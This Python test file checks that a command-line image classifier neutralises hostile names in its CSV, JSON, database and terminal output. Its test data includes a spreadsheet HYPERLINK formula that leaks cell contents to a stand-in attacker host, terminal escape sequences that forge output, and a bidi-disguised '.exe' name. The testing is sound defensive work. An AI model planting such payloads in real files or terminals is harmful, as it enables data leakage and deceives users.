"""Names from outside, written where they can do harm: a file name that is not UTF-8 (CSV, JSON and
SQLite must stay valid UTF-8), a sample id or file name that starts like a spreadsheet formula
(OWASP CSV injection), and terminal escape sequences or newlines in what is printed for people."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from edge_all.results.store import ResultsStore
from edge_all.safe_text import csv_safe, printable, utf8_safe
from tests.cli_runner import run_edge_all as edge_all

from .conftest import save_png

NOT_UTF8 = os.fsdecode(b"field-\xff\xfe.png")  # as Python sees the name: with lone surrogates
FORMULA = '=HYPERLINK("evil.example?"&A1,"click").png'  # no slash: it is one file name
ESCAPES = "\x1b]2;owned\x07\x1b[2J\nFAKE: no ALL-like cells\r"


def test_the_three_rules():
    assert utf8_safe(NOT_UTF8) == "field-\\xff\\xfe.png"
    assert printable(ESCAPES) == "\\x1b]2;owned\\x07\\x1b[2J\\nFAKE: no ALL-like cells\\r"
    assert printable("slide\u202e gpj.exe") == "slide\\u202e gpj.exe"  # a bidirectional override
    assert printable("Benign 0.93  [focus 312]") == "Benign 0.93  [focus 312]"
    for text in ("=1+2", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_safe(text) == "'" + text
    assert csv_safe(-0.5) == -0.5 and csv_safe(3) == 3 and csv_safe(None) is None
    assert csv_safe("slide-7") == "slide-7" and csv_safe(NOT_UTF8) == "field-\\xff\\xfe.png"


def test_classify_csv_and_json_stay_valid_utf8_and_never_hold_a_formula(tmp_path, int8_bundle, smears):
    for name, rgb in ((NOT_UTF8, smears[0]), (FORMULA, smears[1]), ("\x1b[31mred.png", smears[2])):
        save_png(tmp_path / name, rgb)
    # Run in the folder, so the names are written as given: "=HYPERLINK(..." begins the cell.
    command = [sys.executable, "-m", "edge_all", "classify", NOT_UTF8, FORMULA, "\x1b[31mred.png"]
    command += ["--model", str(int8_bundle)]
    result = subprocess.run([*command, "--csv", "out.csv"], cwd=tmp_path, capture_output=True, timeout=120)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode("utf-8"))))
    assert [row["file"] for row in rows] == ["field-\\xff\\xfe.png", "'" + FORMULA, "\x1b[31mred.png"]
    # The human table on stdout: valid UTF-8, and no escape character reaches the terminal.
    stdout = result.stdout.decode("utf-8")
    assert "\x1b" not in stdout and "\\x1b[31mred.png" in stdout and "field-\\xff\\xfe.png" in stdout

    lines = subprocess.run([*command, "--json"], cwd=tmp_path, capture_output=True, timeout=120)
    decoded = [json.loads(line) for line in lines.stdout.decode("utf-8").splitlines()]  # strict UTF-8
    assert [item["file"] for item in decoded] == ["field-\\xff\\xfe.png", FORMULA, "\x1b[31mred.png"]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory, int8_bundle, smears):
    """A real capture database whose sample ids start like formulas or carry escape sequences, and
    whose folder holds a file name that is not UTF-8."""
    root = tmp_path_factory.mktemp("hostile-db")
    db = root / "results.db"
    runs = {}
    for i, sample in enumerate(("=2+3", "@SUM(A1)", ESCAPES)):
        folder = root / f"drop{i}"
        save_png(folder / (NOT_UTF8 if i == 0 else f"f{i}.png"), smears[i])
        runs[sample] = edge_all(
            "capture-and-classify", "--model", int8_bundle, "--camera", f"folder:{folder}", "--settle", "0",
            "--db", db, "--sample-id", sample, "--count", "1", "--duration", "60", timeout=120,
        )  # fmt: skip
    return db, runs, root


def test_a_folder_file_name_that_is_not_utf8_is_recorded_and_skipped_after_a_restart(hostile_db, int8_bundle):
    db, runs, root = hostile_db
    assert runs["=2+3"].returncode == 0, runs["=2+3"].stderr
    with ResultsStore.open(db, create=False) as store:
        (row,) = store.captures(sample_id="=2+3")
    assert row["origin"] == f"{root}/drop0/field-\\xff\\xfe.png" and row["status"] != "error"
    again = edge_all(
        "capture-and-classify", "--model", int8_bundle, "--camera", f"folder:{root / 'drop0'}",
        "--settle", "0", "--db", db, "--sample-id", "=2+3", "--duration", "2", timeout=120,
    )  # fmt: skip
    assert again.returncode == 0 and "skipping 1 image(s)" in again.stderr


def test_results_export_neutralises_formula_cells_and_leaves_numbers_alone(hostile_db, tmp_path):
    db, _, _ = hostile_db
    out = tmp_path / "export.csv"
    assert edge_all("results", "export", "--csv", out, "--db", db).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"))))
    assert {row["sample_id"] for row in rows} >= {"'=2+3", "'@SUM(A1)"}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(float(row["confidence"]) >= 0 for row in rows if row["confidence"])  # numbers stay numbers


def test_escape_sequences_in_a_sample_id_never_reach_the_terminal(hostile_db):
    db, runs, _ = hostile_db
    captured = runs[ESCAPES]
    assert captured.returncode == 0, captured.stderr
    shown = [
        captured.stdout + captured.stderr,
        edge_all("results", "list", "--db", db).stdout,
        edge_all("results", "list", "--sessions", "--db", db).stdout,
        edge_all("results", "show", ESCAPES, "--db", db).stdout,
    ]
    for text in shown:
        assert "\x1b" not in text and "\x07" not in text and "\r" not in text, text
        assert not any(line.startswith("FAKE") for line in text.splitlines()), text
    assert "\\x1b]2;owned\\x07" in shown[1]
    missing = edge_all("results", "show", "\x1b[2Jgone", "--db", db)
    assert missing.returncode == 1 and "\x1b" not in missing.stderr and "\\x1b[2Jgone" in missing.stderr


def test_a_sample_id_that_is_not_utf8_is_one_line_not_a_traceback(hostile_db, tmp_path):
    db, _, _ = hostile_db
    sample = os.fsdecode(b"slide-\xff")  # typed on a terminal that is not UTF-8
    for command in (["show", sample], ["export", "--csv", tmp_path / "x.csv", "--sample-id", sample]):
        result = edge_all("results", *command, "--db", db)
        assert result.returncode == 1 and "Traceback" not in result.stderr
        assert (
            result.stderr.strip()
            == f"error: {db}: slide-\\xff is not valid UTF-8 text (the database holds UTF-8)"
        )
